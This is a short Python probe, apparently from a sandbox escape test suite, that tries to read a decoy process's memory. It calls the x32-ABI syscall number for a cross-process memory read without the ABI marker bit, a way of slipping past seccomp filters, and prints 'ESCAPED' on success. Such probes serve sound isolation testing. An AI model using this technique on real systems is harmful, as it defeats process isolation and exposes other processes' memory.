# class: leak
# Reads another process by the numbers that x32 has of its own, without the bit that marks them.
import ctypes,platform
l=ctypes.CDLL(None,use_errno=True); b=ctypes.create_string_buffer(8)
class V(ctypes.Structure): _fields_=[("b",ctypes.c_void_p),("n",ctypes.c_size_t)]
r=l.syscall(539,CANARY["decoy_pid"],ctypes.byref(V(ctypes.addressof(b),8)),1,ctypes.byref(V(CANARY["decoy_addr"],8)),1,0) if platform.machine()=="x86_64" else -1
print("ESCAPED" if r>0 else "no errno %d"%ctypes.get_errno())
